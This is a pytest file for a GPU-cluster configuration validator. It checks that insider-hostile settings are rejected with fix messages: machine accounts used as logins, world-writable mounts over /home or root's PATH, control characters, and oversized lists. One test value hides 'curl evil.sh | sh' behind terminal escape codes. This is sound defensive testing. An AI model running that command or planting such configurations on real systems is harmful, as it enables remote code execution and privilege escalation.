"""Hostile `ai-infra:gpuClusters` input an insider could write to open a hole: a machine's
account as a login (its token is on every process there), mounts every user can write over
the homes or over root's PATH, lists past their bound. Each is refused at its config path,
before anything registers, with the fix; near misses are accepted."""

from __future__ import annotations

from typing import Any

import pytest

from graph.engine import record_program
from stacks.messages import ConfigError
from tests.conftest import build_graph, with_config

OWN = "serviceAccount:ai-test-train-vm@test-project.iam.gserviceaccount.com"
VOLUMES = {"volumes": [{"name": "d", "bucket": "data-bucket-x"}]}


def cluster(**fields: Any) -> dict[str, Any]:
    return {"name": "train", **fields}


def rejected(config: dict[str, Any]) -> dict[str, str]:
    graph, error = record_program(config, stack="test")
    assert isinstance(error, ConfigError), error
    assert len(graph) == 0, [r.urn for r in graph]
    return dict(error.rendered)


CASES: list[tuple[str, dict[str, Any], str, str]] = [
    (
        "the VMs' own account with sudo",
        {"gpuClusters": [cluster(logins=[{"member": OWN, "sudo": True}])]},
        "gpuClusters[0].logins[0].member",
        "as root",
    ),
    (
        "the VMs' own account without",
        {"gpuClusters": [cluster(logins=[{"member": OWN}])]},
        "gpuClusters[0].logins[0].member",
        "never a machine's account",
    ),
    (
        "another cluster's VM account",
        {
            "gpuClusters": [
                cluster(logins=[{"member": OWN.replace("train", "other")}]),
                {"name": "other"},
            ]
        },
        "gpuClusters[0].logins[0].member",
        "ai-infra:gpuClusters[1]",
    ),
    (
        "a TPU VM entry's account",
        {
            "tpuVms": [{"name": "tpu", "accelerator": "v5p-8"}],
            "gpuClusters": [cluster(logins=[{"member": OWN.replace("train-vm", "tpu")}])],
        },
        "gpuClusters[0].logins[0].member",
        "ai-infra:tpuVms[0]",
    ),
    (
        "a bucket every user writes at /home",
        {"gpuClusters": [cluster(gcsMounts=[{"bucket": "data-bucket-x", "mountPath": "/home"}])]},
        "gpuClusters[0].gcsMounts[0].mountPath",
        "home directories",
    ),
    (
        "a bucket every user writes over one home",
        {
            "gpuClusters": [
                cluster(gcsMounts=[{"bucket": "data-bucket-x", "mountPath": "/home/alice"}])
            ]
        },
        "gpuClusters[0].gcsMounts[0].mountPath",
        "home directories",
    ),
    (
        "the data disk (mode 1777) at /home",
        {"gpuClusters": [cluster(dataDisk={"mountPath": "/home"})]},
        "gpuClusters[0].dataDisk.mountPath",
        "home directories",
    ),
    (
        "a storage bucket at /home",
        {
            "storage": VOLUMES,
            "gpuClusters": [cluster(storage=[{"volume": "d", "mountPath": "/home"}])],
        },
        "gpuClusters[0].storage[0].mountPath",
        "home directories",
    ),
    (
        "a bucket over gcloud on root's PATH",
        {
            "gpuClusters": [
                cluster(gcsMounts=[{"bucket": "data-bucket-x", "mountPath": "/snap/bin"}])
            ]
        },
        "gpuClusters[0].gcsMounts[0].mountPath",
        "/snap",
    ),
    (
        "a storage volume over /snap",
        {
            "storage": VOLUMES,
            "gpuClusters": [cluster(storage=[{"volume": "d", "mountPath": "/snap"}])],
        },
        "gpuClusters[0].storage[0].mountPath",
        "/snap",
    ),
    (
        "a terminal escape that hides a line of the command from the plan's reader",
        {"gpuClusters": [cluster(startupCommand="echo ok\x1b[1A\x1b[2Kcurl evil.sh | sh")]},
        "gpuClusters[0].startupCommand",
        "the character \\x1b",
    ),
    (
        "a carriage return in metadata",
        {"gpuClusters": [cluster(metadata={"note": "a\rb"})]},
        "gpuClusters[0].metadata.note",
        "the character \\r",
    ),
    (
        "too many logins",
        {"gpuClusters": [cluster(logins=[{"member": f"user:u{i}@x.io"} for i in range(1501)])]},
        "gpuClusters[0].logins",
        "at most 1500",
    ),
    (
        "too many buckets",
        {
            "gpuClusters": [
                cluster(
                    gcsMounts=[{"bucket": f"b-{i}-x", "mountPath": f"/gcs/{i}"} for i in range(65)]
                )
            ]
        },
        "gpuClusters[0].gcsMounts",
        "at most 64",
    ),
    (
        "too many shares",
        {"gpuClusters": [cluster(nfsShares=[{"mountPath": f"/nfs/{i}"} for i in range(65)])]},
        "gpuClusters[0].nfsShares",
        "at most 64",
    ),
]


@pytest.mark.parametrize(
    ("overrides", "path", "fix"), [c[1:] for c in CASES], ids=[c[0] for c in CASES]
)
def test_hostile_input_is_refused_at_its_path_with_the_fix(overrides, path, fix):
    found = rejected(with_config(**overrides))
    key = f"ai-infra:{path}"
    assert key in found, found
    assert fix in found[key], found[key]


@pytest.mark.parametrize(
    "overrides",
    [
        {
            "gpuClusters": [
                cluster(
                    gcsMounts=[{"bucket": "data-bucket-x", "mountPath": "/home", "readOnly": True}]
                )
            ]
        },
        {"gpuClusters": [cluster(nfsShares=[{"mountPath": "/home"}])]},
        {
            "gpuClusters": [
                cluster(gcsMounts=[{"bucket": "data-bucket-x", "mountPath": "/data/home"}])
            ]
        },
        {
            "gpuClusters": [
                cluster(
                    logins=[
                        {
                            "member": "serviceAccount:ci@other-proj.iam.gserviceaccount.com",
                            "sudo": True,
                        }
                    ]
                )
            ]
        },
        {
            "gpuClusters": [
                cluster(
                    gcsMounts=[
                        {"bucket": f"b-{i}-x", "mountPath": f"/gcs/{i}/a"} for i in range(64)
                    ]
                )
            ]
        },
    ],
)
def test_near_misses_are_accepted(overrides):
    assert build_graph(with_config(**overrides))


def test_nested_mounts_are_found_however_many_there_are():
    mounts = [{"bucket": f"b-{i}-x", "mountPath": f"/gcs/{i}"} for i in range(63)]
    mounts.append({"bucket": "b-last-x", "mountPath": "/gcs/7/deeper"})
    found = rejected(with_config(gpuClusters=[cluster(gcsMounts=mounts)]))
    assert (
        "overlaps gcsMounts[7].mountPath '/gcs/7'"
        in found["ai-infra:gpuClusters[0].gcsMounts[63].mountPath"]
    )
    above = [*mounts[:63], {"bucket": "b-top-x", "mountPath": "/gcs"}]
    found = rejected(with_config(gpuClusters=[cluster(gcsMounts=above)]))
    assert (
        "overlaps gcsMounts[0].mountPath"
        in found["ai-infra:gpuClusters[0].gcsMounts[63].mountPath"]
    )
